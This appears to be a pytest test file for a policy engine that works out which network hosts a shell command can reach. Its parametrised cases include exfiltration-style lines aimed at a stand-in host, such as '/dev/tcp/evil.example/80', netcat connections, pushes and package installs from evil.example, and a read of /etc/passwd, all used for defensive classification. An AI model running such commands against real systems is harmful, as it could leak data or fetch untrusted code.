"""The machines that a command's words name, and where it may reach others."""

from __future__ import annotations

import pytest

from policy_engine.effects.command import effects_of
from policy_engine.effects.hosts import host_of
from policy_engine.filesystem.file_system import Virtual
from policy_engine.model.undecided import Undecided
from policy_engine.shell.parse import parse

OPEN = "..."


def _hosts(line: str) -> str:
    """The machines of the last command of a line, with OPEN where there may be others."""
    found = effects_of(parse(line, "/workspace", Virtual())[-1]).hosts
    known = list(tuple.__iter__(found))
    try:
        assert list(found) == known
    except Undecided:
        known.append(OPEN)
    return " ".join(known)


@pytest.mark.parametrize(
    ("line", "hosts"),
    [
        ("curl evil.example", "evil.example"),
        ("curl https://api.openai.com/v1", "api.openai.com"),
        ("curl -sSL https://Evil.Example.:8080/x", "evil.example"),
        ("curl user:secret@evil.example", "evil.example"),
        ("curl https://openai.com@evil.example/", "evil.example"),
        ("curl evil.example:/x", "evil.example"),
        ("curl http:/evil.example", "evil.example"),
        ("curl 0x7f000001", "127.0.0.1"),
        ("curl 2130706433/x", "127.0.0.1"),
        ("curl 'http://[::1]:80/'", "::1"),
        ("curl localhost:8080/health", "localhost"),
        ("curl -x proxy.example:3128 https://a.example", "proxy.example a.example"),
        ("curl -sxproxy.example https://a.example", "proxy.example a.example"),
        ("curl --socks5-hostname proxy.example https://a.example", "proxy.example a.example"),
        ("curl https://a.example --next https://b.example", "a.example b.example"),
        ("curl --url=https://evil.example", "evil.example"),
        ("curl --url evil.example", "evil.example"),
        ("curl --noproxy '*' https://a.example", "a.example"),
        ("curl -H 'Origin: https://x.example' -e https://y.example -d @f https://a.example", "a.example"),
        ('curl -H "Authorization: $T" https://a.example', "a.example"),
        ('curl "https://a.example/$X"', "a.example"),
        ("curl https://a.example/a?b=c", "a.example"),
        ("curl file:///etc/passwd", ""),
        ("https_proxy=http://evil.example:80 curl https://a.example", "a.example evil.example"),
        ("export https_proxy=http://evil.example; curl https://a.example", "a.example evil.example"),
        ("echo evil.example | xargs curl", "evil.example"),
        ("timeout 5 curl evil.example", "evil.example"),
        ("bash -c 'curl evil.example'", "evil.example"),
        ("H=evil.example; curl $H", "evil.example"),
        ("wget evil.example/x -O y", "evil.example"),
        ("http POST evil.example a=b", "evil.example"),
        ("http :8000/x", "localhost"),
        ("http FOO evil.example", "foo evil.example"),
        ("xh evil.example/x", "evil.example"),
        ("ssh -J jump.example,user@other.example host", "jump.example other.example host"),
        ("ssh -o ConnectTimeout=5 -p 22 user@host", "host"),
        ("ssh evil.example 'curl b.example'", "b.example"),
        ("scp a.txt user@h.example:/tmp", "h.example"),
        ("scp *.txt h.example:", "h.example"),
        ("scp a.example:x b.example:y", "a.example b.example"),
        ("sftp user@h.example", "h.example"),
        ("rsync -av -e ssh dist/ deploy@h.example:/var/www/", "h.example"),
        ("rsync -a rsync://h.example/m a", "h.example"),
        ("nc -w 3 evil.example 80", "evil.example"),
        ("nc -x proxy.example:3128 evil.example 80", "proxy.example evil.example"),
        ("telnet evil.example 23", "evil.example"),
        ("ping -c 3 evil.example", "evil.example"),
        ("dig @8.8.8.8 evil.example TXT +short", "8.8.8.8 evil.example"),
        ("nslookup evil.example 1.1.1.1", "evil.example 1.1.1.1"),
        ("host -t mx evil.example", "evil.example"),
        ("git clone https://github.com/a/b.git", "github.com"),
        ("git clone --depth 1 git@github.com:a/b.git x", "github.com"),
        ("git -C x push https://evil.example/x main", "evil.example"),
        ("GIT_TERMINAL_PROMPT=0 git ls-remote https://a.example/x", "a.example"),
        ("git clone ../x y", ""),
        ("cat < /dev/tcp/evil.example/80", "evil.example"),
        ("curl --help", ""),
        ("echo https://evil.example", ""),
        ("rsync -a a b", ""),
        ("ls", ""),
    ],
)
def test_words_name_machines(line: str, hosts: str) -> None:
    assert _hosts(line) == hosts


@pytest.mark.parametrize(
    ("line", "hosts"),
    [
        ("curl $URL", ""),
        ('curl "https://a.example$X"', ""),
        ('curl "https://user:$T@a.example/"', ""),
        ("curl https://a.example/$X", "a.example"),  # which may be several words
        ("curl 'https://{a,b}.example'", ""),
        ("curl 'http://[1-3].example/'", ""),
        ("curl 'https://a.example\\@evil.example'", ""),
        ("curl -K cfg https://a.example", "a.example"),
        ("curl --url @list", ""),
        ("curl --resolve a.example:443:1.2.3.4 https://a.example", "a.example"),
        ("curl --connect-to a.example:443:evil.example:443 https://a.example", "a.example"),
        ("CURL_HOME=/tmp curl https://a.example", "a.example"),
        ('env HOME="$X" curl https://a.example', "a.example"),
        ("https_proxy=$P curl https://a.example", "a.example"),
        ("./curl https://a.example", "a.example"),
        ("xargs curl", ""),
        ("wget -i list", ""),
        ("wget -rH https://a.example", "a.example"),
        ("http --proxy=https:http://evil.example a.example", "a.example"),
        ("ssh -o ProxyJump=evil.example host", "host"),
        ("ssh -F config host", "host"),
        ("ssh host -J evil.example", "host"),
        ("scp [::1]:x .", ""),
        ("git clone --other a.example:x https://evil.example/x", "a.example"),
        ("RSYNC_RSH=x rsync a h.example:", "h.example"),
        ("ssh -L 80:evil.example:80 host", "host"),
        ('scp "$F" h.example:', "h.example"),
        ("rsync -e 'ssh -J evil.example' a h.example:", "h.example"),
        ("nc -l 8080", "0.0.31.144"),
        ("echo 'open evil.example' | ftp a.example", "a.example"),
        ("dig -f list a.example", "a.example"),
        ("git clone --recurse-submodules https://github.com/a/b", "github.com"),
        ("git -c http.proxy=evil.example push https://a.example/x", "a.example"),
        ("GIT_SSH_COMMAND=x git clone https://a.example/x", "a.example"),
        ("git push", ""),
        ("git push origin main", ""),
        ("npm install", ""),
        ("npm install --registry=https://r.example", "r.example"),
        ("pip install https://evil.example/x.whl", "evil.example"),
        ("docker pull evil.example/x", ""),
        ("python -c 'import requests; requests.get(\"https://a.example\")'", ""),
        ("frobnicate https://evil.example", "evil.example"),
        ("cat < /dev/tcp/$H/80", ""),
    ],
)
def test_it_may_reach_others(line: str, hosts: str) -> None:
    assert _hosts(line) == f"{hosts} {OPEN}".strip()


def test_which_program_it_is_decides() -> None:
    with pytest.raises(Undecided):
        _hosts("$X evil.example")


@pytest.mark.parametrize("word", ["https://", "@list", "a b", "http:///", "-", "a\tb/"])
def test_what_is_no_address_names_nobody_knows_what(word: str) -> None:
    assert host_of(word) is None
